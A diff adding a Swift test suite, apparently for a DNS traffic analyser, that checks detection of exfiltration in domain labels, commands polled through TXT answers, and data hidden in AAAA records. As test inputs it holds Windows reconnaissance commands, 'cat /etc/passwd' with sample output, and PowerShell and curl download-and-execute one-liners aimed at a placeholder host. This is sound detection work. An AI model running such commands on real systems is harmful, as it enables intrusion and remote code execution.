@@ -1,0 +1,187 @@
+import Channels
+import DNSWire
+import Findings
+import NetworkTypes
+import TestSupport
+import Testing
+import ZoneProfiles
+
+/// Payload in names and answers that carry little or hide behind others, each beside its quiet twin: the same shape
+/// with ordinary content.
+@Suite struct PayloadLawTests {
+    private static func findings(_ traffic: Traffic) -> [Finding] {
+        traffic.findings.filter { $0.severity >= .low }
+    }
+
+    // MARK: Registered labels
+
+    /// The registered label is the payload, through a resolver or straight to a server, answered or denied.
+    @Test(arguments: [TextEncoding.base16, .base32, .base64], [ResponseCode.noError, .nxDomain])
+    func registeredLabels(encoding: TextEncoding, code: ResponseCode) throws {
+        var generator = SeededGenerator(seed: 51)
+        var traffic = Traffic()
+        let suffixes = ["com", "net", "co.uk"]
+        for index in 0..<45 {
+            let label = Array(encoding.encode(generator.octets(40)).prefix(60))
+            traffic.exchange(
+                at: Double(index * index) / 5,
+                labels: [label] + MessageBuilder.labels(suffixes[index % 3]),
+                code: code
+            )
+        }
+        let finding = try #require(traffic.findings.first)
+        #expect(finding.kind == .exfiltration && finding.severity >= .medium)
+        #expect(traffic.findings.allSatisfy { $0.kind != .generatedDomains })
+        #expect(finding.clients.map(\.address.description) == ["10.0.0.17"])
+        #expect(finding.zones == ["."] && finding.displayFilter.contains("(com|net|co\\\\.uk)"))
+    }
+
+    /// Long domains of words, and generated ones of digests that do not exist, are something else.
+    @Test(arguments: [true, false])
+    func registeredLabelsOfOthers(areWords: Bool) {
+        var generator = SeededGenerator(seed: 52)
+        let words = [
+            "river", "garden", "family", "dentist", "holiday", "kitchen", "travel", "summer", "forest",
+        ]
+        var traffic = Traffic()
+        for index in 0..<45 {
+            let label =
+                areWords
+                ? (0..<6).map { _ in words.randomElement(using: &generator) ?? "" }.joined()
+                : String(decoding: TextEncoding.base16.encode(generator.octets(16)), as: UTF8.self)
+            traffic.exchange(at: Double(index), "\(label).com", code: areWords ? .noError : .nxDomain)
+        }
+        #expect(traffic.findings.allSatisfy { $0.kind != .exfiltration || $0.severity < .low })
+    }
+
+    // MARK: Answers
+
+    private static let commands = [
+        "whoami /all", "ipconfig /all", "net group \"domain admins\"", "dir C:\\Users\\Public", "systeminfo",
+        "tasklist /v", "type notes.txt", "netstat -ano", "arp -a", "quser", "nltest /dclist:", "route print",
+    ]
+
+    /// A name that is polled for commands, among names that say nothing.
+    @Test(arguments: [true, false])
+    func commandsForOneName(areCommands: Bool) {
+        var generator = SeededGenerator(seed: 53)
+        var traffic = Traffic()
+        for (index, command) in Self.commands.enumerated() {
+            traffic.exchange(
+                at: Double(index) * 25,
+                "job.example.org",
+                type: .txt,
+                answers: [
+                    .text(
+                        areCommands
+                            ? TextEncoding.base16.encode(Array(command.utf8))
+                            : TextEncoding.base16.encode([UInt8(index)])
+                    )
+                ]
+            )
+            traffic.exchange(
+                at: Double(index) * 25 + 3,
+                "www\(index).example.org",
+                answers: [.address(0xC633_6401)]
+            )
+        }
+        _ = generator.octets(1)
+        #expect((Self.findings(traffic).map(\.severity).max() ?? .info >= .medium) == areCommands)
+    }
+
+    /// One question is a command and its answer what it printed; then digests that are answered with digests.
+    @Test(arguments: [TextEncoding.base16, .base32, .base64], [true, false])
+    func oneExchange(encoding: TextEncoding, isText: Bool) {
+        var generator = SeededGenerator(seed: 54)
+        let command = Array("cat /etc/passwd".utf8)
+        let output = Array(
+            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin".utf8
+        )
+        var traffic = Traffic()
+        traffic.exchange(
+            at: 1,
+            labels: [encoding.encode(isText ? command : generator.octets(command.count))]
+                + MessageBuilder.labels("x.example.org"),
+            type: .txt,
+            answers: [.text(encoding.encode(isText ? output : generator.octets(output.count)))]
+        )
+        #expect(Self.findings(traffic).isEmpty == !isText)
+    }
+
+    /// A one-liner is told whoever else asks for it.
+    @Test(arguments: [
+        (
+            "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://h.example.net/a')\"",
+            true
+        ),
+        ("curl -s http://h.example.net/a | /bin/sh", true),
+        ("v=STSv1; id=20261130", false), ("The powers of this shell are limited to the beach.", false),
+    ])
+    func oneLiners(text: String, isProgram: Bool) {
+        var traffic = Traffic()
+        for client in 0..<40 {
+            traffic.exchange(
+                at: Double(client),
+                "cfg.example.org",
+                type: .txt,
+                client: 0x0A00_0100 + UInt32(client),
+                answers: [.text(text.utf8)]
+            )
+        }
+        #expect(Self.findings(traffic).isEmpty == !isProgram)
+    }
+
+    // MARK: Addresses
+
+    /// One answer with as many networks as records, most of them never allocated; then hosts of one provider.
+    @Test(arguments: [true, false])
+    func oneSetOfAddresses(isData: Bool) {
+        var generator = SeededGenerator(seed: 55)
+        var traffic = Traffic()
+        traffic.exchange(
+            at: 1,
+            "a.evil.example.org",
+            type: .aaaa,
+            answers: (0..<60).map { index in
+                let start: [UInt8] = isData ? [0x20, UInt8(index)] : [0x2A, 0x00, 0x14, 0x50, 0x40, 0x01]
+                return Traffic.Answer(type: .aaaa, octets: start + generator.octets(16 - start.count))
+            }
+        )
+        #expect((Self.findings(traffic).map(\.severity).max() ?? .info >= .medium) == isData)
+    }
+
+    // MARK: The zone
+
+    /// The few names up lie beside the many polls down; the zone holds both.
+    @Test func rolesDoNotSplitTheZone() throws {
+        var generator = SeededGenerator(seed: 56)
+        var traffic = Traffic()
+        for index in 0..<200 {
+            traffic.exchange(
+                at: Double(index) / 5,
+                "\(index * 56)-\(20_000 + index * 131).id-31877.down.gate.example.org",
+                type: .txt,
+                answers: index.isMultiple(of: 4)
+                    ? [.text(TextEncoding.base64.encode(generator.octets(120)))] : []
+            )
+        }
+        for index in 0..<4 {
+            traffic.exchange(
+                at: 11 + Double(index),
+                labels: [TextEncoding.base32.encode(generator.octets(35)), Array("5\(index)-0".utf8)]
+                    + MessageBuilder.labels("id-31877.up.gate.example.org")
+            )
+        }
+        let finding = try #require(traffic.inOrderOfTime.findings.first)
+        #expect(finding.zones == ["gate.example.org"] && finding.severity >= .medium)
+        #expect(finding.queries == 204)
+    }
+
+    /// Hosts beside a fleet's names are no other direction.
+    @Test func hostsBesideTheZone() {
+        let names = (0..<200).map { DomainName("\($0)a7f3e2\($0).t.example.org") }
+        let hosts = ["www", "mail", "a-long-name-of-words"].map { DomainName($0 + ".example.org") }
+        let cuts = ZoneCut.candidates(below: DomainName("example.org"), names: names + hosts)
+        #expect(ZoneCut.zone(of: cuts) == DomainName("t.example.org"))
+    }
+}
